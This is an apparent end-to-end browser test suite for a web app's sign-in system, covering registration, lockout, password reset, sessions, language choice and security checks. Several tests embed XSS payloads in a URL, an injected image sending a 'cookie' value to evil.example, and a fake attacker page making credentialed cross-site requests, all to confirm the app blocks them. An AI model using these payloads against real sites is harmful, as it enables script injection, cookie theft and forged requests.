import { hallDictionaries as dictionaries } from '../../web/text/hall.ts';
import { describeWithBrowser } from '../support/browser.ts';
import { staffOf } from '../support/portiere.config.ts';
import { freshAddress, freshEmail, Viewer } from '../support/system.ts';
import { openPlayground, PASSWORD, signIn } from '../support/system-browser.ts';

const { en, it: italian } = dictionaries;
const NEW_PASSWORD = 'staple my paper clip';

describeWithBrowser(
  'a person with a browser, at the running system',
  () => {
    const playground = openPlayground('whole');
    const { open, newAccount } = playground;

    async function linkOf(email: string, page: '/verify' | '/reset', seen = 0): Promise<string> {
      return `${page}#token=${await playground.system.awaitToken(email, page, seen)}`;
    }

    it('[P17] [P21] registers, opens the mailed link, signs in, sees the session and signs out, under the strict policy', async () => {
      const email = freshEmail('person');
      const { page, complaints } = await open('/register');

      await page.getByLabel(en.fields.email).fill(email);
      await page.getByLabel(en.fields.password, { exact: true }).fill(PASSWORD);
      await page.getByRole('button', { name: en.register.submit }).click();
      await page.getByRole('heading', { name: en.register.sentHeading }).waitFor();
      await page.goto(playground.system.edge + (await linkOf(email, '/verify')));
      await page.getByLabel(en.verify.password, { exact: true }).fill(PASSWORD);
      await page.getByRole('button', { name: en.verify.submit }).click();
      await page.getByRole('heading', { name: en.verify.doneHeading }).waitFor();
      const address = page.url();
      await page.getByRole('link', { name: en.verify.doneLink }).click();
      await signIn(page, email, PASSWORD);
      await page.getByRole('heading', { name: en.account.heading }).waitFor();
      await page.getByText(email).waitFor();
      await page.getByText(en.account.current).waitFor();
      const cookies = await page.context().cookies();
      await page.getByRole('button', { name: en.account.signOut }).click();
      await page.getByText(en.signIn.signedOut).waitFor();

      expect(address).not.toContain('token');
      expect(cookies.map(({ name, secure, httpOnly, sameSite, path }) => [name, secure, httpOnly, sameSite, path]).sort()).toEqual([
        ['__Host-device', true, true, 'Lax', '/'],
        ['__Host-session', true, true, 'Lax', '/'],
      ]);
      expect((await page.context().cookies()).map(({ name }) => name)).toEqual(['__Host-device']);
      expect(complaints).toEqual([]);
    });

    it('[P13] is locked out as a stranger after five wrong passwords, sees the time run, and is told by mail', async () => {
      const email = await newAccount();
      const { page, complaints } = await open('/');

      for (let guess = 0; guess < 5; guess++) {
        await signIn(page, email, `wrong ${guess}`);
        await page.getByText(en.problems.invalid_credentials).waitFor();
        await page.waitForFunction(() => document.querySelector('button[aria-disabled="true"]') === null);
      }
      const sixth = page.waitForResponse((response) => response.url().endsWith('/v1/sign-in'));
      await signIn(page, email, PASSWORD);
      const { status } = { status: (await sixth).status() };
      await page.getByText(en.problems.account_locked).waitFor();
      await page
        .getByText(/0:\d\d|\d+ s/)
        .first()
        .waitFor();
      const mails = await playground.system.awaitMail(email, 2);

      expect(status).toBe(429);
      expect(mails[0]?.subject).toBeTruthy();
      expect(complaints).toEqual([]);
    });

    it('resets a forgotten password by mail and signs in with the new one', async () => {
      const email = await newAccount();
      const { page, complaints } = await open('/');

      await page.getByRole('link', { name: en.signIn.forgot }).click();
      await page.getByLabel(en.fields.email).fill(email);
      await page.getByRole('button', { name: en.reset.submit }).click();
      await page.getByRole('heading', { name: en.reset.sentHeading }).waitFor();
      await page.goto(playground.system.edge + (await linkOf(email, '/reset', 1)));
      await page.getByLabel(en.fields.newPassword, { exact: true }).fill(NEW_PASSWORD);
      await page.getByRole('button', { name: en.reset.chooseSubmit }).click();
      await page.getByText(en.signIn.passwordSet).waitFor();
      await signIn(page, email, NEW_PASSWORD);
      await page.getByRole('heading', { name: en.account.heading }).waitFor();

      expect(complaints).toEqual([]);
    });

    it('ends another session from the account page; it is out on its next request', async () => {
      const email = await newAccount();
      const other = new Viewer(playground.system, freshAddress());
      await other.signIn(email, PASSWORD);
      const { page } = await open('/');
      await signIn(page, email, PASSWORD);
      await page.getByRole('heading', { name: en.account.heading }).waitFor();

      await page
        .getByRole('button', { name: /^End session/ })
        .first()
        .click();
      await page.waitForFunction(
        () => ![...document.querySelectorAll('button')].some((button) => button.textContent?.startsWith('End session')),
      );

      expect((await other.send('GET /v1/session')).status).toBe(401);
    });

    it.each([
      ['it-IT', italian],
      ['en-GB', en],
      ['fr-FR', en],
    ])('a browser that asks for %s is answered in its language, or in English', async (locale, text) => {
      const { page } = await open('/register', locale);

      await page.getByRole('heading', { name: text.register.heading }).waitFor();
      expect(await page.getAttribute('html', 'lang')).toBe(text === italian ? 'it' : 'en');
    });

    it('[P17] hostile text in the address bar stays text', async () => {
      const { page, complaints } = await open('/?q="><img src=x onerror=alert(1)>#token=<svg/onload=alert(1)>');

      expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
      expect(complaints).toEqual([]);
    });

    it('[P21] what the policy refuses on a page is reported by the browser, grouped, and shown to staff without the query', async () => {
      const { system } = playground;
      const staff = new Viewer(system, freshAddress());
      const email = staffOf.browser;
      await staff.register(email, PASSWORD);
      await staff.signIn(email, PASSWORD);
      await staff.send('POST /v1/session/step-up', { body: { password: PASSWORD } });
      await staff.send('GET /v1/session');
      const { secret } = (await staff.send('POST /v1/account/totp')).json;
      await staff.send('POST /v1/account/totp/confirm', { body: { code: await system.nextCode(secret) } });
      const { challengeId } = (await staff.signIn(email, PASSWORD)).json;
      await staff.send('POST /v1/sign-in/second-factor', { body: { challengeId, method: 'totp', code: await system.nextCode(secret) } });
      const { page } = await open('/register?hint=secret#token=secret');

      for (const index of [1, 2]) {
        await page.evaluate((number) => {
          const image = document.createElement('img');
          image.src = `https://evil.example/${number}.png?cookie=secret`;
          document.body.append(image);
        }, index);
      }

      const list = await system.until(async () => {
        const { json } = await staff.send('GET /v1/admin/csp-reports');
        return json.groups?.[0]?.count === 2 ? json : undefined;
      }, 'the reports of two refused images');
      const metric = (await system.readConsole<{ name: string; sum: number }[]>('/api/metrics')).find(({ name }) => name === 'Csp/Reports');
      expect(list).toMatchObject({
        groups: [{ directive: 'img-src', blocked: 'https://evil.example', page: '/register' }],
        withoutGroup: 0,
      });
      expect(JSON.stringify(list)).not.toContain('secret');
      expect(metric?.sum).toBeGreaterThan(0);
      staff.close();
    });

    it('[P19] another site’s page can’t sign a person in, nor out', async () => {
      const email = await newAccount();
      const { page } = await open('/');
      await signIn(page, email, PASSWORD);
      await page.getByRole('heading', { name: en.account.heading }).waitFor();
      const attacker = await page.context().newPage();
      await attacker.route('https://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: '<title>evil</title>' }));
      await attacker.goto('https://evil.example/');

      const outcomes = await attacker.evaluate(async (edge) => {
        const attempt = (path: string, init: RequestInit) =>
          fetch(edge + path, { method: 'POST', credentials: 'include', ...init }).then(
            (response) => `${response.type} ${response.status}`,
            () => 'refused',
          );
        return [
          await attempt('/v1/sign-out', {}),
          await attempt('/v1/sign-out', { mode: 'no-cors' }),
          await attempt('/v1/sign-in', { headers: { 'content-type': 'application/json' }, body: '{}' }),
        ];
      }, playground.system.edge);
      await page.reload();
      await page.getByRole('heading', { name: en.account.heading }).waitFor();

      expect(outcomes.filter((outcome) => outcome !== 'refused' && outcome !== 'opaque 0')).toEqual([]);
    });
  },
  'whole',
);
